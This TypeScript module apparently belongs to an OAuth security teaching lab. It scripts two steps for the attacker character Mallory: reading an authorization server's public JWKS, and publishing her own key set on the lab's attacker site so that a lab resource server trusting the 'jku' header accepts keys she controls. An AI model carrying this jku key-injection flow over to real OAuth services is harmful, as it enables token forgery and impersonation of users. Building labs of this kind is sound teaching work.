import type { JWK } from 'jose';
import { recordFetch } from '@/lib/http-trace/record';
import { attackerUrl } from '@/lib/attack-lab/attacker-log';
import { rsaKeysOf } from '@/lib/attack-lab/mallory-keys';
import { fail, ok } from '@/lib/oauth-client/result';
import type { RealmDescriptor } from '@/lib/realms/descriptor';
import { networkFailure, type StepOutput } from '../step-output';

/**
 * Mallory's key-related requests, recorded as exchanges from the `attacker` actor (as mallory.ts):
 * reading the AS's public JWKS, and publishing her own key set on her site for `jku`.
 */

/** `GET jwks_uri` (RFC 8414 §2, RFC 7517 §5): the realm's public keys, the RSA ones picked out. */
export async function fetchRealmRsaKeys(step: string, jwksUri: string): Promise<StepOutput<JWK[]>> {
  try {
    const request = new Request(jwksUri, { headers: { accept: 'application/json' } });
    const { exchange, response, body } = await recordFetch(request, { step, from: 'attacker', to: 'as' });
    if (response.status !== 200)
      return { step, exchanges: [exchange], result: fail('jwks_failed', `The JWKS endpoint answered HTTP ${response.status}.`, step) };
    const found = rsaKeysOf(body);
    return { step, exchanges: [exchange], result: found.ok ? ok(found.keys) : fail('jwks_failed', found.message, step) };
  } catch (e) {
    return networkFailure(step, e);
  }
}

/** The absolute URL of Mallory's key set on the realm's attacker site: the one `jku` a lab RS honours. */
export function attackerJwksUrlOf(realm: RealmDescriptor): string {
  return `${new URL(realm.issuer).origin}${attackerUrl(realm, 'jwks')}`;
}

/** `PUT /attacker/{realm}/jwks` with `{ keys: [her public JWK] }`: she publishes her key set on her own site. */
export async function publishMallorysJwks(step: string, realm: RealmDescriptor, publicJwk: JWK): Promise<StepOutput<string>> {
  const url = attackerJwksUrlOf(realm);
  try {
    const request = new Request(url, {
      method: 'PUT',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ keys: [publicJwk] }),
    });
    const { exchange, response, body } = await recordFetch(request, { step, from: 'attacker', to: 'attacker' });
    if (response.status !== 204)
      return {
        step,
        exchanges: [exchange],
        result: fail('publish_failed', `Her site refused the key set: HTTP ${response.status} ${body.slice(0, 200)}`, step),
      };
    return { step, exchanges: [exchange], result: ok(url) };
  } catch (e) {
    return networkFailure(step, e);
  }
}
